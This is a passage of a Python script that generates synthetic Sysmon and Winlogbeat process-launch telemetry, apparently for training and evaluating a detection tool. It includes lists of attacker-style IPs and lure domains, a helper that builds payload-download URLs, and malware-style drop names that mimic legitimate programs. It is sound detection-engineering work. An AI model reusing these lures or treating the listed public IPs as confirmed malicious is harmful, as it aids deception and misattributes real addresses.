#!/usr/bin/env python3
"""Generates eval/corpus/events.jsonl: sotto's labelled training and evaluation corpus.

Deterministic (one fixed seed, standard library only): running it twice writes the same bytes.
Every family below is one kind of activity (one technique idea, or one kind of normal
background); each draws its hosts, users, paths, flags, parents and formats afresh per event.
All command lines, names and values here were written by the sotto team.

    python3 eval/corpus/generate.py
"""

import base64
import hashlib
import json
import os
import random
import shlex
import uuid
from datetime import datetime, timedelta, timezone

SEED = 20240506
BS = "\\"
Q = '"'
OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "events.jsonl")

# ----------------------------------------------------------------------------------------------
# Pools
# ----------------------------------------------------------------------------------------------

DOMAINS = [  # (NetBIOS, DNS suffix, domain SID)
    ("CORP", "corp.example.com", "S-1-5-21-1004336348-1177238915-682003330"),
    ("EXAMPLE", "ad.example.org", "S-1-5-21-2271893051-3516278830-1849911617"),
    ("NORTHW", "northwind.example.net", "S-1-5-21-3921548706-2018844137-4120371585"),
]
WIN_USERS = ["jdoe", "asmith", "mgarcia", "kchen", "lwong", "bpatel", "tnguyen", "rjohnson", "omueller",
             "sfischer", "dkowalski", "aokafor", "hsato", "emartin", "pliu", "cbrown", "ynakamura", "fdubois"]
ADMINS = ["adm-jdoe", "adm-kchen", "it.ops", "adm-bpatel", "svc-admin", "administrator"]
WS_PREFIX = ["WS", "LT", "DESKTOP", "PC", "VDI", "LT-FIN", "LT-HR", "WS-ENG"]
SRV_NAMES = ["SRV-FS01", "SRV-APP02", "SRV-SQL01", "DC01", "DC02", "SRV-WEB03", "SRV-RDS01", "SRV-SCCM01",
             "SRV-BKP01", "SRV-EXCH02", "JUMP-01", "SRV-PRINT01"]
LINUX_HOSTS = ["web-03", "web-07", "db-prod-02", "ci-runner-12", "build-agent-04", "k8s-node-2", "k8s-node-5",
               "bastion-eu1", "api-prod-1", "api-prod-4", "dev-vm-kchen", "ml-gpu-01", "log-01", "mail-relay-2",
               "jenkins-01", "cache-03", "vpn-gw-1", "ubuntu-ws-17"]
LINUX_USERS = [("ubuntu", 1000), ("deploy", 1001), ("kchen", 1002), ("jdoe", 1003), ("ops", 1004),
               ("ec2-user", 1000), ("admin", 1000), ("svc-build", 1105), ("pliu", 1006)]
MAC_HOSTS = ["MBP-JDOE", "MBA-FIN-04", "MBP-KCHEN", "MBP-DESIGN-02", "MBP-LWONG", "MBA-SALES-11",
             "MBP-ENG-23", "iMac-STUDIO-1", "MBP-HSATO", "MBA-HR-07"]
MAC_USERS = [("jdoe", 501), ("kchen", 502), ("lwong", 501), ("hsato", 503), ("emartin", 501), ("pliu", 504),
             ("asmith", 501), ("dkowalski", 502)]
BAD_IPS = ["185.172.128.44", "45.9.148.108", "91.215.85.17", "103.75.190.12", "193.38.54.60", "45.133.1.20",
           "194.26.29.113", "89.248.165.74", "5.252.176.21", "141.98.10.63", "77.91.124.55", "62.204.41.176",
           "192.0.2.44", "192.0.2.187", "198.51.100.23", "198.51.100.201", "203.0.113.9", "203.0.113.77",
           "179.43.187.20", "146.70.53.38", "23.94.61.170", "37.120.247.14"]
BAD_DOMAINS = ["update-check.online", "cdn-static-files.top", "msoffice-cloud.live", "docs-viewer.site",
               "secure-login-portal.xyz", "driver-updates.info", "teams-meet.cc", "onedrive-sync.biz",
               "invoice-portal.click", "cloudflare-cdn.icu", "pdf-reader-update.com", "wsus-mirror.net"]
DOC_NAMES = ["invoice_0324", "Payment_Advice", "PO-88213", "scan_2024-05-02", "Remittance", "Q2_bonus_plan",
             "Shipping_Docs", "contract_draft_v3", "HR_policy_update", "statement_april", "resume_jmiller",
             "DHL_receipt", "overdue_notice", "Salary_Review"]
FILESERVERS = ["fs01", "files", "srv-fs01", "nas02", "share"]


def utf16_b64(s):
    return base64.b64encode(s.encode("utf-16-le")).decode()


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)
        self.base = datetime(2024, 4, 2, tzinfo=timezone.utc)

    # generic
    def c(self, seq):
        return self.r.choice(seq)

    def hx(self, n):
        return "".join(self.r.choice("0123456789abcdef") for _ in range(n))

    def name(self, n=None, alphabet="abcdefghijklmnopqrstuvwxyz"):
        n = n or self.r.randint(4, 9)
        return "".join(self.r.choice(alphabet) for _ in range(n))

    def guid(self):
        return str(uuid.UUID(int=self.r.getrandbits(128)))

    def ts(self):
        return self.base + timedelta(seconds=self.r.randint(0, 86 * 86400), microseconds=self.r.randint(0, 999999))

    def pid(self, lo=300, hi=24000):
        return self.r.randrange(lo, hi, 4)

    def ip(self):
        return self.c(BAD_IPS)

    def lan(self, net=None):
        net = net or self.c(["10.20", "10.32", "10.10", "172.16", "192.168"])
        return f"{net}.{self.r.randint(0, 254)}.{self.r.randint(2, 254)}"


G = Gen(SEED)
R = G.r


def stable_hex(*parts, n=64):
    h = hashlib.sha256("|".join(parts).encode()).hexdigest()
    while len(h) < n:
        h += hashlib.sha256(h.encode()).hexdigest()
    return h[:n]


# ----------------------------------------------------------------------------------------------
# Windows binaries: version resources as Sysmon reports them
# ----------------------------------------------------------------------------------------------

MS = ("Microsoft® Windows® Operating System", "Microsoft Corporation")
WINVER = "10.0.19041.{} (WinBuild.160101.0800)"
META = {
    "cmd.exe": ("Windows Command Processor", "Cmd.Exe"),
    "powershell.exe": ("Windows PowerShell", "PowerShell.EXE"),
    "pwsh.exe": ("pwsh", "pwsh.dll", "PowerShell", "Microsoft Corporation", "7.4.2.500"),
    "certutil.exe": ("CertUtil.exe", "CertUtil.exe"),
    "bitsadmin.exe": ("BITS administration utility", "bitsadmin.exe"),
    "mshta.exe": ("Microsoft (R) HTML Application host", "MSHTA.EXE", MS[0], MS[1], "11.00.19041.3570 (WinBuild.160101.0800)"),
    "regsvr32.exe": ("Microsoft(C) Register Server", "REGSVR32.EXE"),
    "rundll32.exe": ("Windows host process (Rundll32)", "RUNDLL32.EXE"),
    "reg.exe": ("Registry Console Tool", "reg.exe"),
    "schtasks.exe": ("Task Scheduler Configuration Tool", "schtasks.exe"),
    "sc.exe": ("Service Control Manager Configuration Tool", "sc.exe"),
    "vssadmin.exe": ("Command Line Interface for Microsoft® Volume Shadow Copy Service ", "VSSADMIN.EXE"),
    "wmic.exe": ("WMI Commandline Utility", "wmic.exe"),
    "net.exe": ("Net Command", "net.exe"),
    "net1.exe": ("Net Command", "net1.exe"),
    "nltest.exe": ("Microsoft® Logon Server Test Utility", "nltestrk.exe"),
    "whoami.exe": ("whoami - displays logged on user information", "whoami.exe"),
    "wevtutil.exe": ("Eventing Command Line Utility", "wevtutil.exe"),
    "fsutil.exe": ("File System Utility", "fsutil.exe"),
    "netsh.exe": ("Network Command Shell", "netsh.exe"),
    "msbuild.exe": ("MSBuild.exe", "MSBuild.exe", "Microsoft® .NET Framework", "Microsoft Corporation", "4.8.9037.0 built by: NET481REL1"),
    "installutil.exe": (".NET Framework installation utility", "InstallUtil.exe", "Microsoft® .NET Framework", "Microsoft Corporation", "4.8.9037.0 built by: NET481REL1"),
    "cmstp.exe": ("Microsoft Connection Manager Profile Installer", "CMSTP.EXE"),
    "odbcconf.exe": ("ODBC Driver Configuration Program", "odbcconf.exe"),
    "forfiles.exe": ("ForFiles - Executes a command on selected files", "forfiles.exe"),
    "pcalua.exe": ("Program Compatibility Assistant", "pcalua.exe"),
    "wscript.exe": ("Microsoft ® Windows Based Script Host", "wscript.exe"),
    "cscript.exe": ("Microsoft ® Console Based Script Host", "cscript.exe"),
    "ntdsutil.exe": ("NT5DS", "ntdsutil.exe"),
    "wbadmin.exe": ("Command Line Interface for Microsoft® BlockLevel Backup", "WBADMIN.EXE"),
    "bcdedit.exe": ("Boot Configuration Data Editor", "bcdedit.exe"),
    "icacls.exe": ("icacls", "iCACLS.EXE"),
    "cipher.exe": ("File Encryption Utility", "CIPHER.EXE"),
    "svchost.exe": ("Host Process for Windows Services", "svchost.exe"),
    "conhost.exe": ("Console Window Host", "CONHOST.EXE"),
    "dllhost.exe": ("COM Surrogate", "dllhost.exe"),
    "runtimebroker.exe": ("Runtime Broker", "RuntimeBroker.exe"),
    "backgroundtaskhost.exe": ("Background Task Host", "backgroundTaskHost.exe"),
    "taskhostw.exe": ("Host Process for Windows Tasks", "taskhostw.exe"),
    "searchindexer.exe": ("Microsoft Windows Search Indexer", "SearchIndexer.exe"),
    "searchprotocolhost.exe": ("Microsoft Windows Search Protocol Host", "SearchProtocolHost.exe"),
    "searchfilterhost.exe": ("Microsoft Windows Search Filter Host", "SearchFilterHost.exe"),
    "wmiprvse.exe": ("WMI Provider Host", "Wmiprvse.exe"),
    "tiworker.exe": ("Windows Modules Installer Worker", "TiWorker.exe"),
    "trustedinstaller.exe": ("Windows Modules Installer", "TrustedInstaller.exe"),
    "mpcmdrun.exe": ("Microsoft Malware Protection Command Line Utility", "MpCmdRun.exe", MS[0], MS[1], "4.18.24030.9 (WinBuild.160101.0800)"),
    "msmpeng.exe": ("Antimalware Service Executable", "MsMpEng.exe", MS[0], MS[1], "4.18.24030.9 (WinBuild.160101.0800)"),
    "wuauclt.exe": ("Windows Update", "wuauclt.exe"),
    "usoclient.exe": ("UsoClient", "UsoClient"),
    "mousocoreworker.exe": ("MoUSO Core Worker Process", "MoUsoCoreWorker.exe"),
    "gpupdate.exe": ("Microsoft® Windows Group Policy Update Utility", "gpupdate.exe"),
    "gpscript.exe": ("Group Policy Script Application", "GPSCRIPT.EXE"),
    "explorer.exe": ("Windows Explorer", "EXPLORER.EXE"),
    "msiexec.exe": ("Windows® installer", "msiexec.exe", "Windows Installer - Unicode", MS[1], "5.0.19041.3636 (WinBuild.160101.0800)"),
    "robocopy.exe": ("Microsoft Robocopy", "robocopy.exe"),
    "ipconfig.exe": ("IP Configuration Utility", "ipconfig.exe"),
    "netstat.exe": ("TCP/IP Netstat Command", "netstat.exe"),
    "ping.exe": ("TCP/IP Ping Command", "ping.exe"),
    "tracert.exe": ("TCP/IP Traceroute Command", "tracert.exe"),
    "nslookup.exe": ("nslookup", "nslookup.exe"),
    "systeminfo.exe": ("Displays system information", "sysinfo.exe"),
    "tasklist.exe": ("Lists the current running tasks", "tasklist.exe"),
    "services.exe": ("Services and Controller app", "services.exe"),
    "wininit.exe": ("Windows Start-Up Application", "wininit.exe"),
    "userinit.exe": ("Userinit Logon Application", "USERINIT.EXE"),
    "winlogon.exe": ("Windows Logon Application", "WINLOGON.EXE"),
    "consent.exe": ("Consent UI for administrative applications", "consent.exe"),
    "fodhelper.exe": ("Features On Demand Helper", "FodHelper.EXE"),
    "eventvwr.exe": ("Event Viewer Snapin Launcher", "eventvwr.exe"),
    "sdclt.exe": ("Microsoft® Windows Backup", "sdclt.exe"),
    "computerdefaults.exe": ("Set Program Access and Computer Defaults Control Panel", "ComputerDefaults.exe"),
    "sethc.exe": ("Accessibility shortcut keys", "sethc.exe"),
    "utilman.exe": ("Utility Manager", "utilman.exe"),
    "takeown.exe": ("Takes ownership of a file", "takeown.exe"),
    "w3wp.exe": ("IIS Worker Process", "w3wp.exe"),
    "sqlservr.exe": ("SQL Server Windows NT - 64 Bit", "sqlservr.exe", "Microsoft SQL Server", MS[1], "2019.0150.4360.02 ((SQLServer2019-CU25).240105-1819)"),
    "winword.exe": ("Microsoft Word", "WinWord.exe", "Microsoft Office", MS[1], "16.0.17425.20176"),
    "excel.exe": ("Microsoft Excel", "Excel.exe", "Microsoft Office", MS[1], "16.0.17425.20176"),
    "outlook.exe": ("Microsoft Outlook", "Outlook.exe", "Microsoft Outlook", MS[1], "16.0.17425.20176"),
    "powerpnt.exe": ("Microsoft PowerPoint", "POWERPNT.EXE", "Microsoft Office", MS[1], "16.0.17425.20176"),
    "onedrive.exe": ("Microsoft OneDrive", "OneDrive.exe", "Microsoft OneDrive", MS[1], "24.076.0414.0003"),
    "onedrivestandaloneupdater.exe": ("Standalone Updater", "OneDriveStandaloneUpdater.exe", "Microsoft OneDrive", MS[1], "24.076.0414.0003"),
    "msedge.exe": ("Microsoft Edge", "msedge.exe", "Microsoft Edge", MS[1], "124.0.2478.80"),
    "microsoftedgeupdate.exe": ("Microsoft Edge Update", "MicrosoftEdgeUpdate.exe", "Microsoft Edge Update", MS[1], "1.3.185.27"),
    "chrome.exe": ("Google Chrome", "chrome.exe", "Google Chrome", "Google LLC", "124.0.6367.119"),
    "googleupdate.exe": ("Google Installer", "GoogleUpdate.exe", "Google Update", "Google LLC", "1.3.36.372"),
    "firefox.exe": ("Firefox", "firefox.exe", "Firefox", "Mozilla Corporation", "125.0.3"),
    "ms-teams.exe": ("Microsoft Teams", "ms-teams.exe", "Microsoft Teams", MS[1], "24091.214.2846.1452"),
    "teams.exe": ("Microsoft Teams", "Teams.exe", "Microsoft Teams", MS[1], "1.7.00.7956"),
    "update.exe": ("Squirrel-based updater", "Update.exe", "Squirrel", "GitHub", "1.9.0"),
    "ccmexec.exe": ("CCM Executive Service", "CcmExec.exe", "System Center Configuration Manager", MS[1], "5.00.9122.1000"),
    "microsoft.management.services.intunewindowsagent.exe": ("Microsoft Intune Management Extension", "Microsoft.Management.Services.IntuneWindowsAgent.exe", "Microsoft Intune Management Extension", MS[1], "1.77.107.0"),
    "agentexecutor.exe": ("AgentExecutor", "AgentExecutor.exe", "Microsoft Intune Management Extension", MS[1], "1.77.107.0"),
    "splunkd.exe": ("splunk service", "splunkd.exe", "splunk Application", "Splunk Inc.", "9.2.1"),
    "splunk-winprintmon.exe": ("Splunk Windows Print Monitor", "splunk-winprintmon.exe", "splunk Application", "Splunk Inc.", "9.2.1"),
    "splunk-powershell.exe": ("splunk-powershell", "splunk-powershell.exe", "splunk Application", "Splunk Inc.", "9.2.1"),
    "winlogbeat.exe": ("-", "-", "-", "-", "-"),
    "osqueryd.exe": ("osquery daemon and shell", "osqueryd.exe", "osquery", "osquery", "5.12.1.0"),
    "procdump64.exe": ("Sysinternals process dump utility", "procdump", "ProcDump", "Sysinternals - www.sysinternals.com", "11.0"),
    "procdump.exe": ("Sysinternals process dump utility", "procdump", "ProcDump", "Sysinternals - www.sysinternals.com", "11.0"),
    "psexec.exe": ("Execute processes remotely", "psexec.c", "Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "2.43"),
    "psexec64.exe": ("Execute processes remotely", "psexec.c", "Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "2.43"),
    "psexesvc.exe": ("PsExec Service", "psexesvc.exe", "Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "2.43"),
    "anydesk.exe": ("AnyDesk", "-", "AnyDesk", "philandro Software GmbH", "8.0.9"),
    "teamviewer.exe": ("TeamViewer", "TeamViewer.exe", "TeamViewer", "TeamViewer Germany GmbH", "15.53.6"),
    "7z.exe": ("7-Zip Console", "7z.exe", "7-Zip", "Igor Pavlov", "23.01"),
    "rar.exe": ("Command line RAR", "Rar.exe", "WinRAR", "Alexander Roshal", "7.00.0"),
    "rclone.exe": ("Rclone", "rclone.exe", "Rclone", "https://rclone.org", "1.66.0"),
    "git.exe": ("Git for Windows", "git.exe", "Git", "The Git Development Community", "2.45.0.windows.1"),
    "python.exe": ("Python", "python.exe", "Python", "Python Software Foundation", "3.11.9"),
    "node.exe": ("Node.js JavaScript Runtime", "node.exe", "Node.js", "Node.js", "20.12.2"),
    "curl.exe": ("The curl executable", "curl.exe", MS[0], MS[1], "8.4.0"),
    "notepad.exe": ("Notepad", "NOTEPAD.EXE"),
    "mmc.exe": ("Microsoft Management Console", "MMC.EXE"),
    "taskmgr.exe": ("Task Manager", "Taskmgr.exe"),
    "code.exe": ("Visual Studio Code", "electron.exe", "Visual Studio Code", MS[1], "1.89.1"),
    "werfault.exe": ("Windows Problem Reporting", "WerFault.exe"),
    "smartscreen.exe": ("Windows Defender SmartScreen", "smartscreen.exe"),
    "sihclient.exe": ("SIH Client", "sihclient.exe"),
    "compattelrunner.exe": ("Microsoft Compatibility Telemetry", "CompatTelRunner.exe"),
    "wsqmcons.exe": ("Windows SQM Consolidator", "wsqmcons.exe"),
    "spoolsv.exe": ("Spooler SubSystem App", "spoolsv.exe"),
    "audiodg.exe": ("Windows Audio Device Graph Isolation ", "AUDIODG.EXE"),
    "ctfmon.exe": ("CTF Loader", "ctfmon.exe"),
    "sppsvc.exe": ("Microsoft Software Protection Platform Service", "sppsvc.exe"),
    "dismhost.exe": ("Dism Host Servicing Process", "DismHost.exe"),
    "wermgr.exe": ("Windows Problem Reporting", "wermgr.exe"),
    "securityhealthservice.exe": ("Windows Security Health Service", "SecurityHealthService.exe"),
    "sgrmbroker.exe": ("System Guard Runtime Monitor Broker Service", "SgrmBroker.exe"),
    "vssvc.exe": ("Microsoft® Volume Shadow Copy Service", "VSSVC.EXE"),
    "sdiagnhost.exe": ("Scripted Diagnostics Native Host", "sdiagnhost.exe"),
}


def win_meta(path):
    base = path.replace("/", "\\").split("\\")[-1].lower()
    m = META.get(base)
    if not m:
        return ("-", "-", "-", "-", "-")
    if len(m) == 2:
        build = 3570 + int(stable_hex(base, n=4), 16) % 900
        return (WINVER.format(build), m[0], MS[0], MS[1], m[1])
    desc, orig, prod, comp, ver = m
    return (ver, desc, prod, comp, orig)


def win_hashes(path):
    base = path.split("\\")[-1].lower()
    unsigned = base not in META
    key = path.lower() if unsigned else base
    s1, md5, s256, imp = (stable_hex(key, "sha1", n=40), stable_hex(key, "md5", n=32),
                         stable_hex(key, "sha256"), stable_hex(key, "imp", n=32))
    return f"SHA1={s1.upper()},MD5={md5.upper()},SHA256={s256.upper()},IMPHASH={imp.upper()}", (md5, s1, s256)


def basename(p):
    return p.replace("/", "\\").split("\\")[-1] if ("\\" in p or ":" in p[:3]) else p.split("/")[-1]


def win_split(cmd):
    """CommandLineToArgvW, roughly: quotes group, backslashes kept."""
    out, cur, q, any_ = [], [], False, False
    for ch in cmd:
        if ch == '"':
            q = not q
            any_ = True
        elif ch in " \t" and not q:
            if cur or any_:
                out.append("".join(cur))
            cur, any_ = [], False
        else:
            cur.append(ch)
    if cur or any_:
        out.append("".join(cur))
    return out


def posix_split(cmd):
    try:
        return shlex.split(cmd)
    except ValueError:
        return cmd.split()


# ----------------------------------------------------------------------------------------------
# Launch: one process start, before it is rendered in a format
# ----------------------------------------------------------------------------------------------


class L:
    """A process launch. Attributes set by the family, filled by the context."""

    def __init__(self, **kw):
        self.__dict__.update(kw)


def win_context():
    dom, suffix, dsid = G.c(DOMAINS)
    server = R.random() < 0.25
    host = G.c(SRV_NAMES) if server else f"{G.c(WS_PREFIX)}-{R.randint(10, 4999):04d}"
    user = G.c(WIN_USERS)
    return L(dom=dom, suffix=suffix, dsid=dsid, host=host, user=user, admin=G.c(ADMINS), server=server,
             home=f"C:\\Users\\{user}", fqdn=f"{host}.{suffix}")


def lin_context():
    u, uid = G.c(LINUX_USERS)
    return L(host=G.c(LINUX_HOSTS), user=u, uid=uid, home=f"/home/{u}")


def mac_context():
    u, uid = G.c(MAC_USERS)
    return L(host=G.c(MAC_HOSTS), user=u, uid=uid, home=f"/Users/{u}")


# Windows helper pieces used by families -------------------------------------------------------


def s32():
    return G.c(["C:\\Windows\\System32", "C:\\WINDOWS\\system32", "C:\\Windows\\system32"])


SYS = "C:\\Windows\\System32"
PS = SYS + "\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = SYS + "\\cmd.exe"
EXPLORER = ("C:\\Windows\\explorer.exe", "C:\\WINDOWS\\Explorer.EXE")


def explorer():
    return EXPLORER[0], G.c(["C:\\WINDOWS\\Explorer.EXE", "C:\\Windows\\Explorer.EXE", "C:\\Windows\\explorer.exe"])


def cmd_wrap(child, quote=None):
    sw = G.c(["/c", "/C", "/c", "/Q /c"])
    if quote is None:
        quote = R.random() < 0.4
    body = f'"{child}"' if quote else child
    pre = G.c([s32() + "\\cmd.exe ", "cmd.exe ", "\"C:\\Windows\\system32\\cmd.exe\" ", "cmd "])
    return CMD, f"{pre}{sw} {body}"


def ps_wrap(child):
    pre = G.c(["powershell.exe ", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ", "powershell "])
    flag = G.c(["-Command ", "-c ", "-NoProfile -Command ", ""])
    return PS, f"{pre}{flag}{child}"


def interactive_shell():
    """A console the user opened: cmd or PowerShell started from explorer."""
    if R.random() < 0.5:
        return CMD, G.c(["\"C:\\WINDOWS\\system32\\cmd.exe\" ", "C:\\Windows\\system32\\cmd.exe", "\"C:\\Windows\\System32\\cmd.exe\""]).strip()
    return PS, G.c(["\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ",
                    "C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "\"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoExit"]).strip()


def user_drop_dir(c, allow=("temp", "appdata", "public", "downloads", "programdata", "localappdata")):
    k = G.c(allow)
    return {
        "temp": f"{c.home}\\AppData\\Local\\Temp",
        "appdata": f"{c.home}\\AppData\\Roaming",
        "localappdata": f"{c.home}\\AppData\\Local",
        "public": G.c(["C:\\Users\\Public", "C:\\Users\\Public\\Documents", "C:\\Users\\Public\\Libraries"]),
        "downloads": f"{c.home}\\Downloads",
        "programdata": "C:\\ProgramData",
    }[k]


def drop_name(ext=".exe"):
    return G.c(["svc", "upd", "update", "winhost", "msupdate", "chrome_upd", "runtime", "taskhost", "OneDriveSync",
                "igfxtray", "dllhst", "wuauhelper", "AdobeARM", "setup", "helper", "sysmgr", G.name(6)]) + ext


def url(path_hint="", ext=".exe"):
    host = G.ip() if R.random() < 0.6 else G.c(BAD_DOMAINS)
    scheme = "http" if R.random() < 0.7 else "https"
    port = G.c(["", "", "", ":8080", ":443", ":8000"]) if scheme == "http" else ""
    p = path_hint or G.c(["/a/", "/tmp/", "/files/", "/", "/dl/", "/static/", "/wp-content/uploads/"])
    return f"{scheme}://{host}{port}{p}{G.name(R.randint(1, 6))}{ext}"


# ----------------------------------------------------------------------------------------------
# Identities
# ----------------------------------------------------------------------------------------------

SERVICE_SIDS = {"MSSQLSERVER": "S-1-5-80-3880718306-3832830129-1677859214-2598158968-1052248003"}


def rid(name):
    return 1100 + int(stable_hex(name, n=6), 16) % 9000


def win_identity(c, run):
    """(domain, name, sid, integrity, mandatory label, elevation type, logon id, session)."""
    logon = "0x" + G.hx(R.randint(6, 7)).lstrip("0")
    sess = G.c([1, 1, 1, 2, 3]) if not c.server else G.c([2, 3, 4, 5])
    if run == "user":
        return (c.dom, c.user, f"{c.dsid}-{rid(c.user)}", "Medium", "S-1-16-8192", "%%1938", logon, sess)
    if run == "admin":
        return (c.dom, c.admin, f"{c.dsid}-{rid(c.admin)}", "High", "S-1-16-12288", "%%1937", logon, sess)
    if run == "useradmin":  # the same user, elevated through UAC
        return (c.dom, c.user, f"{c.dsid}-{rid(c.user)}", "High", "S-1-16-12288", "%%1937", logon, sess)
    if run == "system":
        return ("NT AUTHORITY", "SYSTEM", "S-1-5-18", "System", "S-1-16-16384", "%%1936", "0x3e7", 0)
    if run == "netsvc":
        return ("NT AUTHORITY", "NETWORK SERVICE", "S-1-5-20", "System", "S-1-16-16384", "%%1936", "0x3e4", 0)
    if run == "localsvc":
        return ("NT AUTHORITY", "LOCAL SERVICE", "S-1-5-19", "System", "S-1-16-16384", "%%1936", "0x3e5", 0)
    if run == "iis":
        pool = G.c(["DefaultAppPool", "IntranetPool", "HRPortal", "OWA"])
        return ("IIS APPPOOL", pool, "S-1-5-82-" + "-".join(str(int(stable_hex(pool, str(i), n=8), 16)) for i in range(5)),
                "High", "S-1-16-12288", "%%1936", logon, 0)
    if run == "sql":
        return ("NT Service", "MSSQLSERVER", SERVICE_SIDS["MSSQLSERVER"], "High", "S-1-16-12288", "%%1936", logon, 0)
    if run == "low":
        return (c.dom, c.user, f"{c.dsid}-{rid(c.user)}", "Low", "S-1-16-4096", "%%1938", logon, sess)
    raise ValueError(run)


def sysmon_guid(host, ts):
    prefix = stable_hex(host, "machine", n=8)
    t = int(ts.timestamp())
    return "{%s-%04x-%04x-%s-%s}" % (prefix, (t >> 4) & 0xFFFF, t >> 16 & 0xFFFF, G.hx(4), G.hx(8) + "0000")


def esc(s):
    return (s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace('"', "&quot;").replace("'", "&apos;"))


def iso(ts, digits=3):
    return ts.strftime("%Y-%m-%dT%H:%M:%S.") + f"{ts.microsecond:06d}"[:digits] + "Z"


# ----------------------------------------------------------------------------------------------
# Windows rendering
# ----------------------------------------------------------------------------------------------


def win_record(c, spec):
    """Fills a Windows launch with everything any format needs."""
    ts = G.ts()
    run = spec.get("run", "user")
    ident = win_identity(c, run)
    prun = spec.get("prun", run)
    pident = ident if prun == run else win_identity(c, prun)
    if prun == run:
        pident = ident
    img, pimg = spec["img"], spec["pimg"]
    version, desc, product, company, orig = win_meta(img)
    hashes, (md5, sha1, sha256) = win_hashes(img)
    cwd = spec.get("cwd") or (c.home + "\\" if run in ("user", "useradmin", "admin", "low") and R.random() < 0.6
                              else G.c(["C:\\Windows\\system32\\", "C:\\WINDOWS\\system32\\"]))
    return L(
        ts=ts, host=c.fqdn, short=c.host, c=c, ident=ident, pident=pident, img=img, cmd=spec["cmd"], pimg=pimg,
        pcmd=spec.get("pcmd") or "", cwd=cwd, pid=G.pid(), ppid=G.pid(), guid=sysmon_guid(c.host, ts),
        pguid=sysmon_guid(c.host, ts - timedelta(seconds=R.randint(5, 90000))),
        lguid=sysmon_guid(c.host, ts - timedelta(seconds=R.randint(600, 400000)))[:-13] + G.hx(8) + "0000}",
        version=version, desc=desc, product=product, company=company, orig=orig, hashes=hashes, md5=md5,
        sha1=sha1, sha256=sha256, record=R.randint(100000, 9999999), sysmon_pid=G.c([2072, 2804, 3716, 3324, 2460]),
        thread=G.pid(100, 9000), nocmd=False,
    )


def user_str(ident):
    return f"{ident[0]}\\{ident[1]}"


SYSMON_FIELDS = ["RuleName", "UtcTime", "ProcessGuid", "ProcessId", "Image", "FileVersion", "Description", "Product",
                 "Company", "OriginalFileName", "CommandLine", "CurrentDirectory", "User", "LogonGuid", "LogonId",
                 "TerminalSessionId", "IntegrityLevel", "Hashes", "ParentProcessGuid", "ParentProcessId",
                 "ParentImage", "ParentCommandLine", "ParentUser"]


def sysmon_data(e):
    return {
        "RuleName": "-", "UtcTime": e.ts.strftime("%Y-%m-%d %H:%M:%S.") + f"{e.ts.microsecond // 1000:03d}",
        "ProcessGuid": e.guid, "ProcessId": str(e.pid), "Image": e.img, "FileVersion": e.version,
        "Description": e.desc, "Product": e.product, "Company": e.company, "OriginalFileName": e.orig,
        "CommandLine": e.cmd, "CurrentDirectory": e.cwd, "User": user_str(e.ident), "LogonGuid": e.lguid,
        "LogonId": e.ident[6], "TerminalSessionId": str(e.ident[7]), "IntegrityLevel": e.ident[3],
        "Hashes": e.hashes, "ParentProcessGuid": e.pguid, "ParentProcessId": str(e.ppid), "ParentImage": e.pimg,
        "ParentCommandLine": e.pcmd, "ParentUser": user_str(e.pident),
    }


def r_sysmon_xml(e):
    d = sysmon_data(e)
    data = "".join(f"<Data Name='{k}'>{esc(d[k])}</Data>" for k in SYSMON_FIELDS)
    return ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' "
            "Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task>"
            f"<Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='{e.ts.strftime('%Y-%m-%dT%H:%M:%S.')}{e.ts.microsecond:06d}0Z'/>"
            f"<EventRecordID>{e.record}</EventRecordID><Correlation/><Execution ProcessID='{e.sysmon_pid}' ThreadID='{e.thread}'/>"
            f"<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>{e.host}</Computer><Security UserID='S-1-5-18'/></System>"
            f"<EventData>{data}</EventData></Event>")


def r_sysmon_winlogbeat(e):
    d = sysmon_data(e)
    hn = e.short.lower()
    doc = {
        "@timestamp": iso(e.ts),
        "agent": {"ephemeral_id": G.guid(), "id": stable_hex(e.host, "agent", n=32)[:8] + "-" + G.guid()[9:], "name": e.short,
                  "type": "winlogbeat", "version": G.c(["8.12.2", "8.13.4", "7.17.18"])},
        "ecs": {"version": "8.0.0"},
        "event": {"code": "1", "created": iso(e.ts + timedelta(milliseconds=R.randint(50, 900))), "kind": "event",
                  "provider": "Microsoft-Windows-Sysmon", "module": "sysmon", "category": ["process"], "type": ["start"]},
        "host": {"name": e.host.lower(), "hostname": hn, "os": {"family": "windows", "type": "windows", "platform": "windows"}},
        "log": {"level": "information"}, "message": "Process Create:",
        "winlog": {"api": "wineventlog", "channel": "Microsoft-Windows-Sysmon/Operational", "computer_name": e.host,
                   "event_data": d, "event_id": G.c(["1", 1]), "opcode": "Info",
                   "process": {"pid": e.sysmon_pid, "thread": {"id": e.thread}},
                   "provider_guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", "provider_name": "Microsoft-Windows-Sysmon",
                   "record_id": e.record, "task": "Process Create (rule: ProcessCreate)",
                   "user": {"domain": "NT AUTHORITY", "identifier": "S-1-5-18", "name": "SYSTEM", "type": "User"}, "version": 5},
    }
    if R.random() < 0.4:
        doc["process"] = {"pid": e.pid, "executable": e.img, "name": basename(e.img), "command_line": e.cmd,
                          "args": win_split(e.cmd), "working_directory": e.cwd, "entity_id": e.guid,
                          "parent": {"pid": e.ppid, "executable": e.pimg, "name": basename(e.pimg), "command_line": e.pcmd, "entity_id": e.pguid}}
        doc["user"] = {"domain": e.ident[0], "name": e.ident[1], "id": e.ident[2]}
    return doc


def r_sysmon_flat(e):
    d = sysmon_data(e)
    local = e.ts + timedelta(hours=G.c([0, 1, 2, -4, -5]))
